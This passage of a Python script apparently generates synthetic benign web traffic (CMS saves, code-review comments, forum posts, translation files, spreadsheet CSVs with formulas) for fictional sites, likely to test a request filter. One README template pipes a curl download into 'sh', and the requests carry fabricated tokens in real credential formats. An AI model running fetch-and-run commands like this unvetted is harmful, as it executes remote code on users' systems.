        lang, code = rng.choice(CODE_SNIPPETS)
        out.append("<ac:structured-macro ac:name=\"code\" ac:schema-version=\"1\" ac:macro-id=\"%s\"><ac:parameter ac:name=\"language\">%s</ac:parameter><ac:plain-text-body><![CDATA[%s]]></ac:plain-text-body></ac:structured-macro>" % (rand_uuid(rng), lang, code))
    elif r < 0.45:
        out.append("<ac:structured-macro ac:name=\"info\" ac:schema-version=\"1\"><ac:rich-text-body><p>%s</p></ac:rich-text-body></ac:structured-macro>" % esc(rng.choice(PARAS)))
    elif r < 0.6:
        out.append("<ac:task-list><ac:task><ac:task-id>1</ac:task-id><ac:task-status>incomplete</ac:task-status><ac:task-body>Review <ac:link><ri:user ri:account-id=\"%s\" /></ac:link> draft</ac:task-body></ac:task></ac:task-list>" % rand_hex(rng, 24))
    elif r < 0.75:
        out.append("<p><ac:image ac:width=\"400\"><ri:attachment ri:filename=\"%s\" /></ac:image></p>" % esca(rng.choice(IMG_FILENAMES)))
    elif r < 0.9:
        out.append("<table><tbody><tr><th><p>Owner</p></th><th><p>Due</p></th></tr><tr><td><p>%s</p></td><td><p><time datetime=\"2024-07-%02d\" /></p></td></tr></tbody></table>" % (esc(rng.choice(NAMES)), rng.randint(1, 28)))
    else:
        out.append("<ac:structured-macro ac:name=\"toc\" ac:schema-version=\"1\"><ac:parameter ac:name=\"maxLevel\">3</ac:parameter></ac:structured-macro>")
    return "".join(out)


def gen_cms_markup(c):
    rng = c.rng
    L = "cms-markup"
    for i in range(30):
        paras = rng.sample(PARAS, rng.randint(2, 4))
        if i % 3 != 2:
            pid = rng.randint(100, 9000)
            path = "/wp-json/wp/v2/posts/%d" % pid if i % 2 == 0 else "/wp-json/wp/v2/posts/%d/autosaves?_locale=user" % pid
            c.json_req(L, None, "POST", rng.choice(["blog.fernhill-studio.com", "www.rivertown-gazette.com", "stories.greenleaf-ngo.org"]), path,
                       {"id": pid, "title": rng.choice(REVIEW_TITLES + ["Spring fair recap", "A letter from the editor"]), "content": gutenberg(rng, paras),
                        "status": "draft", "excerpt": ""},
                       extra=[("X-WP-Nonce", rand_hex(rng, 10))])
        else:
            cid = rng.randint(100000, 9999999)
            c.json_req(L, None, "PUT", "wiki.northwind-labs.com", "/rest/api/content/%d" % cid,
                       {"id": str(cid), "type": "page", "title": rng.choice(["Runbook: payment retries", "Team charter", "Onboarding checklist", "Q3 planning notes", "Incident review 2024-06-11"]),
                        "space": {"key": rng.choice(["ENG", "OPS", "HR", "PLAT"])}, "version": {"number": rng.randint(2, 80)},
                        "body": {"storage": {"value": confluence(rng, paras), "representation": "storage"}}},
                       extra=[("X-Atlassian-Token", "no-check")])


MD_INTROS = [
    "Thanks for the PR! A couple of small things before we merge:",
    "I can reproduce this on `main` (a3f9c21). Steps below.",
    "LGTM overall \U0001F44D one nit inline.",
    "Here's what I found after bisecting - the regression came in with #4512.",
    "Proposal: let's split the settings page into **General**, **Notifications** and **Billing**.",
    "Closing this in favour of #882, which covers the same ground with fewer breaking changes.",
    "Quick summary of yesterday's call (notes are rough, sorry):",
    "We hit this in production last night. Workaround for anyone blocked:",
    "Docs update: the install section was out of date since v2.0.",
    "Benchmarks on my machine (Ryzen 7 5800X, 32 GB) - take with a grain of salt:",
    "This is a great idea, but I'm worried about the migration path for existing users.",
    "Re-opening since the fix in 3.4.1 didn't cover the Windows case.",
]

MD_TABLES = [
    "| Version | Cold start | Memory |\n|---------|-----------:|-------:|\n| 4.1.0   | 820 ms     | 212 MB |\n| 4.2.0   | 490 ms     | 118 MB |",
    "| OS | Works? | Notes |\n| --- | :---: | --- |\n| macOS 14 | \u2705 | |\n| Windows 11 | \u274c | crashes on startup |\n| Ubuntu 24.04 | \u2705 | needs `libssl3` |",
    "| Name | Role | Time zone |\n|:-----|:-----|:----------|\n| Priya | lead | UTC+5:30 |\n| Jonas | backend | UTC+2 |\n| Mei | design | UTC+8 |",
    "| Metric | Before | After | \u0394 |\n|---|---|---|---|\n| p50 | 41 ms | 38 ms | -7% |\n| p99 | 390 ms | 210 ms | -46% |",
]

MD_EXTRAS = [
    "- [x] Tests pass locally\n- [x] Updated CHANGELOG.md\n- [ ] Docs updated\n- [ ] Screenshots for UI changes",
    "> On the other hand, the old API was \"good enough\" for 90% of users.\n\nTrue, but the other 10% file most of the tickets.",
    "<!-- Please describe the change and link the related issue -->\nFixes #1421",
    "See https://github.com/acme/widgets/discussions/311 and <https://docs.acme.dev/guide/config#timeouts> for background.",
    "This is mentioned in the RFC[^1] and again in the follow-up discussion[^2].\n\n[^1]: RFC 9110, section 15.5.\n[^2]: Mailing list thread from March 2023.",
    "<details>\n<summary>Full log (click to expand)</summary>\n\n```\n2024-06-12T09:14:03Z INFO  starting worker pool size=8\n2024-06-12T09:14:05Z WARN  retrying job id=5532 attempt=2\n2024-06-12T09:14:09Z INFO  job id=5532 done in 4.1s\n```\n\n</details>",
    "Press <kbd>Ctrl</kbd> + <kbd>Shift</kbd> + <kbd>P</kbd> and run **Reload Window**.",
    "![screenshot of the settings page](https://user-images.githubusercontent.com/1234567/245678901-3c1e5b8e-6a2f-4b7d-9c1e-8f2a3b4c5d6e.png)",
    "1. Open the app\n2. Go to *Settings -> Sync*\n3. Toggle \"Offline mode\" twice\n4. Observe the spinner never stops",
    "**Expected:** the export contains all 1,204 rows.\n**Actual:** it stops at 1,000 (looks like a page size limit?).",
    "---\n\n_Edit: fixed the link, thanks @mei-lin!_",
    "cc @acme/maintainers @jonas-w",
    "Environment:\n- OS: macOS 14.5 (arm64)\n- Node: v20.14.0\n- Browser: Firefox 127",
    "Big thanks to everyone who tested the beta \U0001F64F\U0001F389",
    "~~We should drop IE11 support~~ (already done in 3.0)",
    "Term\n: definition lists aren't supported here, so here's a bullet instead:\n* **term** - the thing we're defining",
]


def markdown_doc(rng):
    parts = [rng.choice(MD_INTROS)]
    pool = ["code", "code", "table", "extra", "extra", "extra", "heading", "para"]
    for kind in rng.sample(pool, rng.randint(2, 4)):
        if kind == "code":
            lang, code = rng.choice(CODE_SNIPPETS)
            fence = "~~~" if rng.random() < 0.1 else "```"
            parts.append("%s%s\n%s\n%s" % (fence, lang, code, fence))
        elif kind == "table":
            parts.append(rng.choice(MD_TABLES))
        elif kind == "extra":
            parts.append(rng.choice(MD_EXTRAS))
        elif kind == "heading":
            parts.append("### %s\n\n%s" % (rng.choice(["Steps to reproduce", "Context", "Proposed solution", "Alternatives considered", "Notes", "Changelog"]), rng.choice(PARAS)))
        else:
            parts.append(rng.choice(PARAS))
    return "\n\n".join(parts)


def gen_markdown(c):
    rng = c.rng
    L = "markdown"
    gh_ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
    repos = ["acme/widgets", "tidewater/outfitters-web", "kobe-design/inkstone", "openmaps/tiler", "northwind/ledger"]
    for i in range(64):
        md = markdown_doc(rng)
        kind = i % 8
        repo = rng.choice(repos)
        if kind == 0:
            c.json_req(L, None, "POST", "api.github.com", "/repos/%s/issues/%d/comments" % (repo, rng.randint(1, 5000)), {"body": md},
                       accept="application/vnd.github+json", extra=[("Authorization", "Bearer ghp_" + rand_token(rng, 36)), ("X-GitHub-Api-Version", "2022-11-28")], origin=False)
        elif kind == 1:
            c.form_post(L, None, "gitlab.northwind-labs.com", "/api/v4/projects/%d/merge_requests/%d/notes" % (rng.randint(1, 400), rng.randint(1, 900)),
                        [("body", md)], accept=ACCEPT_JSON, extra=[("PRIVATE-TOKEN", "glpat-" + rand_token(rng, 20))], origin=False)
        elif kind == 2:
            c.form_post(L, None, "community.saltmarsh.org", "/posts",
                        [("raw", md), ("unlist_topic", "false"), ("category", str(rng.randint(1, 30))), ("topic_id", str(rng.randint(100, 20000))),
                         ("is_warning", "false"), ("archetype", "regular"), ("typing_duration_msecs", str(rng.randint(3000, 400000))),
                         ("composer_open_duration_msecs", str(rng.randint(5000, 900000))), ("featured_link", ""), ("shared_draft", "false"),
                         ("draft_key", "topic_%d" % rng.randint(100, 20000)), ("nested_post", "true")],
                        accept="application/json, text/javascript, */*; q=0.01", extra=[("X-CSRF-Token", rand_token(rng, 86)), ("X-Requested-With", "XMLHttpRequest"), ("Discourse-Present", "true")])
        elif kind == 3:
            c.json_req(L, None, "POST", "git.ourteam.dev", "/api/v1/repos/%s/issues" % repo,
                       {"title": rng.choice(TICKET_SUBJECTS), "body": md, "labels": [rng.randint(1, 12)]})
        elif kind == 4:
            content = "# %s\n\n%s\n\n## Install\n\n```bash\n%s\n```\n\n%s" % (repo.split("/")[1], rng.choice(PARAS), rng.choice(["npm install --save %s" % repo.split("/")[1], "pip install %s" % repo.split("/")[1], "cargo add %s" % repo.split("/")[1],
                        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\nrustup default stable", "brew install %s" % repo.split("/")[1]]), md)
            c.json_req(L, None, "PUT", "api.github.com", "/repos/%s/contents/README.md" % repo,
                       {"message": "docs: update README", "content": base64.b64encode(content.encode()).decode(), "sha": rand_hex(rng, 40), "branch": "main"} if rng.random() < 0.5 else
                       {"message": "docs: update README", "content_text": content, "sha": rand_hex(rng, 40)},
                       accept="application/vnd.github+json", extra=[("Authorization", "token gho_" + rand_token(rng, 36))], origin=False)
        elif kind == 5:
            c.json_req(L, None, "PUT", "gitlab.northwind-labs.com", "/api/v4/projects/%d/wikis/%s" % (rng.randint(1, 400), rng.choice(["home", "runbooks%2Fdeploy", "onboarding", "faq"])),
                       {"content": md, "format": "markdown", "title": rng.choice(["Home", "Deploy runbook", "Onboarding", "FAQ"])}, extra=[("PRIVATE-TOKEN", "glpat-" + rand_token(rng, 20))], origin=False)
        elif kind == 6:  # GitHub web form (PR review comment)
            c.form_post(L, None, "github.com", "/%s/pull/%d/review_comment/create" % (repo, rng.randint(1, 3000)),
                        [("authenticity_token", rand_token(rng, 86)), ("comment[body]", md), ("path", rng.choice(["src/lib.rs", "app/models/user.rb", "README.md", "web/src/App.tsx"])),
                         ("line", str(rng.randint(1, 400))), ("side", "RIGHT"), ("commit_id", rand_hex(rng, 40))], ua=gh_ua)
        else:  # Stack-Exchange-like answer
            c.form_post(L, None, "dev.stackhouse.io", "/questions/%d/answer/submit" % rng.randint(10**6, 10**7),
                        [("post-text", md), ("fkey", rand_hex(rng, 64)), ("author", ""), ("i1l", rand_token(rng, 12)), ("post-id", "")])


def gen_comments(c):
    rng = c.rng
    L = "comments"
    for i in range(84):
        kind = i % 7
        text = rng.choice(COMMENTS)
        if rng.random() < 0.25:
            text += " " + rng.choice(COMMENTS)
        if rng.random() < 0.2:
            text += " " + " ".join(rng.sample(TOPICS_TAGS, 2))
        name = rng.choice(NAMES)
        if kind == 0:  # WordPress comment form
            c.form_post(L, None, rng.choice(["blog.fernhill-studio.com", "www.rivertown-gazette.com"]), "/wp-comments-post.php",
                        [("comment", text), ("author", name), ("email", rng.choice(EMAILS)), ("url", rng.choice(["", "", "https://renee-oconnor.ie", "http://www.bj\u00f6rn-photo.se/"])),
                         ("wp-comment-cookies-consent", "yes"), ("submit", "Post Comment"), ("comment_post_ID", str(rng.randint(1, 9000))), ("comment_parent", str(rng.choice([0, 0, rng.randint(1, 50000)])))])
        elif kind == 1:  # product review
            c.form_post(L, None, "shop.mapleandoak.com", "/products/%s/reviews" % rng.choice(["linen-apron-sage", "oak-serving-board", "hand-thrown-mug", "wool-throw"]),
                        [("authenticity_token", rand_token(rng, 86)), ("review[rating]", str(rng.randint(1, 5))), ("review[title]", rng.choice(REVIEW_TITLES)),
                         ("review[body]", text), ("review[author]", name), ("review[email]", rng.choice(EMAILS)), ("review[recommend]", rng.choice(["yes", "no"]))])
        elif kind == 2:  # chat message
            msg = rng.choice(CHAT + COMMENTS[:20])
            c.json_req(L, None, "POST", "chat.teamharbor.io", "/api/v4/posts",
                       {"channel_id": rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), "message": msg, "root_id": "" if rng.random() < 0.6 else rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"),
                        "pending_post_id": "%s:%d" % (rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), rng.randint(1700000000000, 1720000000000)), "file_ids": [], "metadata": {}},
                       extra=[("X-Requested-With", "XMLHttpRequest"), ("X-CSRF-Token", rand_token(rng, 26))])
        elif kind == 3:  # support ticket
            k = rng.randrange(len(TICKET_BODIES))
            c.json_req(L, None, "POST", "tidewater.zendesk.com", "/api/v2/tickets.json",
                       {"ticket": {"subject": TICKET_SUBJECTS[k], "comment": {"body": TICKET_BODIES[k]}, "requester": {"name": name, "email": rng.choice(EMAILS)},
                                   "priority": rng.choice(["normal", "high", "low"]), "tags": ["web_form"]}}, ascii_only=rng.random() < 0.5)
        elif kind == 4:  # news comment API (JSON)
            c.json_req(L, None, "POST", "www.rivertown-gazette.com", "/api/comments",
                       {"articleId": rng.randint(10000, 99999), "parentId": None, "body": text, "displayName": name, "notify": rng.random() < 0.5})
        elif kind == 5:  # Freshdesk reply as multipart (with optional attachment)
            parts = [("body", "<div>%s</div>" % esc(rng.choice(TICKET_BODIES)).replace("\n", "<br>")), ("from_email", rng.choice(EMAILS)), ("cc_emails[]", "%s <%s>" % (rng.choice(NAMES), rng.choice(EMAILS)))]
            if rng.random() < 0.5:
                parts.append(("attachments[]", "Order summary\nItem: Oak board (L)\nQty: 1\nTotal: $64.00\n", rng.choice(DOC_FILENAMES).rsplit(".", 1)[0] + ".txt", "text/plain"))
            c.upload(L, None, "tidewater.freshdesk.com", "/api/v2/tickets/%d/reply" % rng.randint(1000, 99999), parts)
        else:  # Reddit-style comment form
            c.form_post(L, None, "talk.bicycle-repair.net", "/api/comment",
                        [("thing_id", "t3_" + rand_token(rng, 6, "abcdefghijklmnopqrstuvwxyz0123456789")), ("text", text), ("api_type", "json"), ("return_rtjson", "true"), ("uh", rand_token(rng, 32))],
                        accept=ACCEPT_JSON)


I18N_UI_STRINGS = [
    ("ja", {"greeting": "\u3053\u3093\u306b\u3061\u306f\u3001{name}\u3055\u3093\uff01", "cart.items": "{count, plural, other {# \u70b9\u306e\u5546\u54c1}}", "checkout.button": "\u3054\u6ce8\u6587\u624b\u7d9a\u304d\u3078\u9032\u3080", "error.required": "\u3053\u306e\u9805\u76ee\u306f\u5fc5\u9808\u3067\u3059\u3002"}),
    ("de", {"greeting": "Hallo, {name}!", "cart.items": "{count, plural, one {# Artikel} other {# Artikel}}", "checkout.button": "Zur Kasse gehen", "error.required": "Dieses Feld ist ein Pflichtfeld."}),
    ("ar", {"greeting": "\u0645\u0631\u062d\u0628\u064b\u0627 \u064a\u0627 {name}!", "cart.items": "{count, plural, zero {\u0644\u0627 \u062a\u0648\u062c\u062f \u0639\u0646\u0627\u0635\u0631} one {\u0639\u0646\u0635\u0631 \u0648\u0627\u062d\u062f} two {\u0639\u0646\u0635\u0631\u0627\u0646} few {# \u0639\u0646\u0627\u0635\u0631} many {# \u0639\u0646\u0635\u0631\u064b\u0627} other {# \u0639\u0646\u0635\u0631}}", "checkout.button": "\u0627\u0644\u0645\u062a\u0627\u0628\u0639\u0629 \u0625\u0644\u0649 \u0627\u0644\u062f\u0641\u0639"}),
    ("ru", {"greeting": "\u0417\u0434\u0440\u0430\u0432\u0441\u0442\u0432\u0443\u0439\u0442\u0435, {name}!", "cart.items": "{count, plural, one {# \u0442\u043e\u0432\u0430\u0440} few {# \u0442\u043e\u0432\u0430\u0440\u0430} many {# \u0442\u043e\u0432\u0430\u0440\u043e\u0432} other {# \u0442\u043e\u0432\u0430\u0440\u0430}}", "checkout.button": "\u041e\u0444\u043e\u0440\u043c\u0438\u0442\u044c \u0437\u0430\u043a\u0430\u0437"}),
    ("tr", {"greeting": "Merhaba {name}!", "cart.items": "{count} \u00fcr\u00fcn", "settings.title": "Ayarlar \u2014 D\u0130KKAT: de\u011fi\u015fiklikler hemen uygulan\u0131r", "search.placeholder": "Ara\u2026"}),
    ("zh-CN", {"greeting": "\u4f60\u597d\uff0c{name}\uff01", "cart.items": "\u8d2d\u7269\u8f66\u91cc\u6709 {count} \u4ef6\u5546\u54c1", "checkout.button": "\u53bb\u7ed3\u7b97", "error.network": "\u7f51\u7edc\u9519\u8bef\uff0c\u8bf7\u7a0d\u540e\u91cd\u8bd5\u3002"}),
]

PO_FILE = """# French translations for Inkwell.
# Copyright (C) 2024 Inkwell Ltd.
msgid ""
msgstr ""
"Content-Type: text/plain; charset=UTF-8\\n"
"Language: fr\\n"
"Plural-Forms: nplurals=2; plural=(n > 1);\\n"

#: src/views/cart.py:42
#, python-format
msgid "You have %(count)d item in your cart"
msgid_plural "You have %(count)d items in your cart"
msgstr[0] "Vous avez %(count)d article dans votre panier"
msgstr[1] "Vous avez %(count)d articles dans votre panier"

#: src/views/account.py:17
msgid "Don't forget to verify your e-mail address."
msgstr "N\u2019oubliez pas de v\u00e9rifier votre adresse e-mail."

#: templates/base.html:8
msgid "Welcome back, %s!"
msgstr "Bon retour parmi nous, %s\u00a0!"
"""


def gen_i18n(c):
    rng = c.rng
    L = "i18n"
    for i in range(84):
        lang, text = I18N[i % len(I18N)]
        kind = (i // len(I18N) + i) % 8
        if kind == 0:  # JSON comment, raw UTF-8
            c.json_req(L, None, "POST", "www.rivertown-gazette.com", "/api/comments",
                       {"articleId": rng.randint(10000, 99999), "body": text, "displayName": rng.choice(NAMES), "lang": lang})
        elif kind == 1:  # JSON with \\u escapes (Python/Java clients)
            c.json_req(L, None, "POST", "chat.teamharbor.io", "/api/v4/posts",
                       {"channel_id": rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), "message": text}, ascii_only=True,
                       ua=rng.choice(["python-requests/2.32.3", "okhttp/4.12.0", "Mattermost/5.8.0 (Android 14)"]))
        elif kind == 2:  # form, percent-encoded UTF-8
            c.form_post(L, None, "shop.mapleandoak.com", "/products/hand-thrown-mug/reviews",
                        [("authenticity_token", rand_token(rng, 86)), ("review[rating]", str(rng.randint(3, 5))), ("review[body]", text), ("review[author]", rng.choice(NAMES))])
        elif kind == 3:  # search, percent-encoded query string
            term = rng.choice(SEARCHES) if rng.random() < 0.5 else text[:40]
            c.get(L, None, rng.choice(["www.rivertown-gazette.com", "shop.mapleandoak.com", "community.saltmarsh.org"]),
                  "/search?q=%s&lang=%s&page=%d" % (q(term), lang, rng.randint(1, 3)), origin=True)
        elif kind == 4:  # profile update with names in many scripts
            nm = rng.choice(NAMES)
            c.json_req(L, None, "PATCH", "app.clearpath-tasks.com", "/api/me",
                       {"displayName": nm, "bio": text, "locale": lang, "timezone": rng.choice(["Asia/Tokyo", "Europe/Istanbul", "Asia/Jerusalem", "America/Sao_Paulo", "Asia/Kolkata", "Asia/Ho_Chi_Minh"])})
        elif kind == 5:  # translation file upload (JSON / ICU MessageFormat)
            lng, strings = rng.choice(I18N_UI_STRINGS)
            c.upload(L, None, "translate.inkwell.app", "/api/projects/%d/locales/%s/import" % (rng.randint(1, 90), lng),
                     [("format", "json"), ("overwrite", "false"), ("file", jdump(strings, pretty=True), "%s.json" % lng, "application/json")])
        elif kind == 6:  # gettext .po upload or chat with RTL/LRM marks
            if rng.random() < 0.4:
                c.upload(L, None, "translate.inkwell.app", "/api/projects/%d/locales/fr/import" % rng.randint(1, 90),
                         [("format", "po"), ("file", PO_FILE, "fr.po", "text/x-gettext-translation")])
            else:
                c.form_post(L, None, "forum.vintage-radio.club", "/thread/%d/reply" % rng.randint(100, 50000),
                            [("csrf_token", rand_token(rng, 40)), ("message", "\u200f" + text + "\u200e (" + rng.choice(NAMES) + ")"), ("submit", "Post reply")])
        else:  # GET with percent-encoded name in path (profile pages) and tag
            nm = rng.choice(NAMES)
            c.get(L, None, "community.saltmarsh.org", "/u/%s/activity?tag=%s" % (qp(nm.replace(" ", "_")), q(rng.choice(["caf\u00e9", "\u65c5\u884c", "\u0435\u0434\u0430", "m\u00fczik", "\ud5ec\uc2a4", "\u0637\u0628\u062e"]))))


def gen_math(c):
    rng = c.rng
    L = "math"
    for i in range(32):
        m = MATH[i % len(MATH)]
        kind = i % 5
        if kind == 0:  # math Q&A answer (form)
            c.form_post(L, None, "math.stackhouse.io", "/questions/%d/answer/submit" % rng.randint(10**6, 10**7),
                        [("post-text", "%s\n\n%s\n\nHope that helps!" % (m, rng.choice(MATH))), ("fkey", rand_hex(rng, 64))])
        elif kind == 1:  # Jupyter notebook save (markdown cell)
            nb = {"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["## Derivation\n", "\n", m]},
                            {"cell_type": "code", "execution_count": rng.randint(1, 40), "metadata": {}, "outputs": [],
                             "source": ["import numpy as np\n", "x = np.linspace(0, 2 * np.pi, 200)\n", "y = np.sin(x) / (1 + x**2)\n"]}],
                  "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
            c.json_req(L, None, "PUT", "hub.unilab-physics.edu", "/user/%s/api/contents/notebooks/week%d.ipynb" % (rng.choice(["mchen", "aliyev", "ksato"]), rng.randint(1, 12)),
                       {"type": "notebook", "format": "json", "content": nb}, extra=[("X-XSRFToken", rand_token(rng, 48))])
        elif kind == 2:  # chat with KaTeX
            c.json_req(L, None, "POST", "chat.teamharbor.io", "/api/v4/posts",
                       {"channel_id": rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), "message": "quick check of the formula: " + m})
        elif kind == 3:  # full LaTeX document saved by an online editor
            doc = ("\\documentclass[11pt]{article}\n\\usepackage{amsmath,amssymb}\n\\usepackage[version=4]{mhchem}\n\\title{Problem set %d}\n\\author{%s}\n\\begin{document}\n\\maketitle\n\\section{Exercise 1}\n%s\n\n\\section{Exercise 2}\n%s\n\\end{document}\n"
                   % (rng.randint(1, 10), rng.choice(NAMES), m, rng.choice(MATH)))
            c.json_req(L, None, "POST", "tex.unilab-physics.edu", "/project/%s/doc/%s" % (rand_hex(rng, 24), rand_hex(rng, 24)),
                       {"lines": doc.split("\n"), "version": rng.randint(2, 900), "lastUpdatedBy": rand_hex(rng, 24)})
        else:  # homework submission form with prose inequalities
            c.form_post(L, None, "learn.unilab-physics.edu", "/mod/assign/view.php?id=%d&action=savesubmission" % rng.randint(100, 9000),
                        [("sesskey", rand_token(rng, 10)), ("onlinetext_editor[text]", "<p>%s</p><p>%s</p>" % (esc(m), esc(rng.choice(MATH)))), ("onlinetext_editor[format]", "1"), ("submitbutton", "Save changes")])


CSV_SETS = [
    ("contacts.csv", "First Name,Last Name,Email,Phone,Company,Notes\nRen\u00e9e,O'Connor,renee@oconnor-design.ie,+353 1 555 0142,\"O'Connor Design, Ltd.\",\"Met at the Dublin meetup; likes \"\"minimal\"\" stuff\"\nJ\u00fcrgen,Wei\u00df,j.weiss@mueller-soehne.de,+49 221 5550 123,M\u00fcller & S\u00f6hne GmbH,\nMei,Lin,mei.lin@kobe-design.jp,+81 3-5555-0199,Kobe Design,\"Prefers e-mail, not calls\"\n\u0410\u043d\u043d\u0430,\u041f\u0435\u0442\u0440\u043e\u0432\u0430,anna.petrova@example.ru,+7 495 555-01-23,,VIP\n"),
    ("budget-2025.csv", "Category,Q1,Q2,Q3,Q4,Total\nSalaries,120000,120000,125000,125000,=SUM(B2:E2)\nRent,18000,18000,18000,18000,=SUM(B3:E3)\nSoftware,4200,4350,4500,4500,=SUM(B4:E4)\nTravel,2500,6000,3000,8000,=SUM(B5:E5)\nTotal,=SUM(B2:B5),=SUM(C2:C5),=SUM(D2:D5),=SUM(E2:E5),=SUM(F2:F5)\n"),
    ("grades.csv", "Student,Test 1,Test 2,Project,Average,Pass?\nAli,78,85,92,=AVERAGE(B2:D2),\"=IF(E2>=60,\"\"yes\"\",\"\"no\"\")\"\nBeatriz,64,59,70,=AVERAGE(B3:D3),\"=IF(E3>=60,\"\"yes\"\",\"\"no\"\")\"\nChen,91,88,95,=AVERAGE(B4:D4),\"=IF(E4>=60,\"\"yes\"\",\"\"no\"\")\"\nClass average,=AVERAGE(B2:B4),=AVERAGE(C2:C4),=AVERAGE(D2:D4),=AVERAGE(E:E),\n"),
    ("inventory.csv", "SKU,Name,Qty,Unit price,Value,Reorder\nMO-APR-SG,\"Linen Apron, Sage\",42,24.00,=C2*D2,\"=IF(C2<20,\"\"order\"\",\"\"\"\")\"\nMO-BRD-L,Oak Serving Board (Large),7,64.00,=C3*D3,\"=IF(C3<20,\"\"order\"\",\"\"\"\")\"\nMO-MUG-350,\"Hand-thrown Mug, 350 ml\",118,18.50,=C4*D4,\"=IF(C4<20,\"\"order\"\",\"\"\"\")\"\n"),
    ("expenses-june.csv", "Date,Description,Amount,Currency,Category\n2024-06-03,Train Berlin -> Hamburg,-89.90,EUR,Travel\n2024-06-04,\"Hotel (2 nights), breakfast incl.\",-238.00,EUR,Travel\n2024-06-05,Client dinner @ Fischers Fritz,-146.50,EUR,Meals\n2024-06-12,Refund - cancelled taxi,+24.00,EUR,Travel\n2024-06-20,Monitor 27\",-329.00,EUR,Equipment\n"),
    ("signups.tsv", "timestamp\tname\temail\tcountry\tcomment\n2024-06-01T09:12:44Z\tNguy\u1ec5n V\u0103n An\tan.nguyen@example.vn\tVN\tRe-registering after moving\n2024-06-01T10:03:10Z\t\u015eule \u0130\u015fbilir\tsule@example.com.tr\tTR\t\n2024-06-02T17:45:31Z\t\u05d3\u05e0\u05d4 \u05db\u05d4\u05df\tdana.cohen@example.co.il\tIL\tLooking forward to it!\n"),
    ("products.csv", "handle,title,body_html,price,tags\nwool-throw,Wool Throw 130x170 cm,\"<p>Woven in Wales from 100% lambswool. <strong>Dry clean only.</strong></p>\",89.00,\"home, winter, gift\"\nmug-350,\"Hand-thrown Mug, 350 ml\",<p>Each one is slightly different &ndash; that's the point.</p>,18.50,\"kitchen, ceramics\"\n"),
    ("timesheet.csv", "Employee,Mon,Tue,Wed,Thu,Fri,Hours,Overtime\nPriya R.,8,8.5,9,8,7.5,=SUM(B2:F2),=MAX(0;G2-40)\nJonas W.,8,8,8,8,8,=SUM(B3:F3),=MAX(0;G3-40)\nMei L.,6,6,6,6,6,=SUM(B4:F4),=MAX(0;G4-40)\n"),
    ("sales-by-region.csv", "Region,Jan,Feb,Mar,Q1,Share\nNorth,12400,13100,14050,=SUM(B2:D2),=E2/E$6\nSouth,9800,9200,10100,=SUM(B3:D3),=E3/E$6\nEast,15200,14900,16300,=SUM(B4:D4),=E4/E$6\nWest,11050,11800,12300,=SUM(B5:D5),=E5/E$6\nTotal,=SUM(B2:B5),=SUM(C2:C5),=SUM(D2:D5),=SUM(E2:E5),=SUM(F2:F5)\n"),
    ("price-lookup.csv", "Code,Item,Qty,Unit,Line total\nA-100,\"=VLOOKUP(A2,Prices!A:B,2,FALSE)\",3,\"=VLOOKUP(A2,Prices!A:C,3,FALSE)\",=C2*D2\nB-220,\"=VLOOKUP(A3,Prices!A:B,2,FALSE)\",1,\"=VLOOKUP(A3,Prices!A:C,3,FALSE)\",=C3*D3\n,,,,\"=ROUND(SUM(E2:E3)*1.2,2)\"\n"),
]

GRID_FORMULAS = ["=SUM(B2:B9)", "=AVERAGE(C:C)", "=B4*1.2", "=ROUND(C5/12,2)", "=COUNTIF(E:E,\"Done\")", "=CONCATENATE(A2,\" \",B2)",
                 "=IF(D2>100,\"High\",\"Low\")", "=TEXT(TODAY(),\"yyyy-mm-dd\")", "=SUMIFS(F:F,A:A,\"North\",B:B,\">=2024-01-01\")", "=MAX(B2:B50)-MIN(B2:B50)",
                 "=XLOOKUP(A2,Rates!A:A,Rates!B:B)", "=IFERROR(B2/C2,0)", "=NETWORKDAYS(A2,B2)", "=PMT(0.045/12,360,-250000)", "=INDEX(B:B,MATCH(\"Lisbon\",A:A,0))"]


def gen_spreadsheet(c):
    rng = c.rng
    L = "spreadsheet"
    for i in range(38):
        fname, data = CSV_SETS[i % len(CSV_SETS)]
        kind = i % 4
        if kind == 0:
            ct = "text/tab-separated-values" if fname.endswith(".tsv") else "text/csv"
            c.upload(L, None, "sheets.gridwise.app", "/api/workbooks/%s/import" % rand_hex(rng, 12),
                     [("mode", rng.choice(["new_sheet", "replace", "append"])), ("delimiter", "\t" if fname.endswith(".tsv") else ","), ("file", data, fname, ct)])
        elif kind == 1:
            c.add(L, None, "PUT", "files.cloudbox-drive.com", "/remote.php/dav/files/%s/Documents/%s" % (rng.choice(["mchen", "renee", "jonas"]), qp(fname)),
                  "text/csv; charset=utf-8" if fname.endswith(".csv") else "text/tab-separated-values", data, accept="*/*",
                  ua=rng.choice(["Mozilla/5.0 (Windows) mirall/3.13.0 (Nextcloud, windows-10.0.22631 ClientArchitecture: x86_64 OsArchitecture: x86_64)", "rclone/v1.67.0"]), origin=False)
        elif kind == 2:  # JSON grid save (Handsontable-like)
            rows = [[rng.choice(["North", "South", "East", "West"]), rng.randint(100, 20000), rng.choice(GRID_FORMULAS)] for _ in range(rng.randint(3, 8))]
            c.json_req(L, None, "POST", "sheets.gridwise.app", "/api/sheets/%d/cells" % rng.randint(1, 5000),
                       {"changes": [{"row": r, "col": 2, "old": None, "new": rows[r][2]} for r in range(len(rows))], "data": rows, "revision": rng.randint(1, 900)})
        else:  # Google Sheets batchUpdate-like
            c.json_req(L, None, "POST", "sheets.gridwise.app", "/v4/spreadsheets/%s/values:batchUpdate" % rand_token(rng, 44),
                       {"valueInputOption": "USER_ENTERED", "data": [{"range": "Summary!B%d" % rng.randint(2, 50), "values": [[rng.choice(GRID_FORMULAS)], [rng.choice(GRID_FORMULAS)]]},
                                                                      {"range": "Notes!A1", "values": [[rng.choice(COMMENTS)]]}]},
                       extra=[("Authorization", "Bearer ya29." + rand_token(rng, 60))], origin=False)


def ics_escape(s):
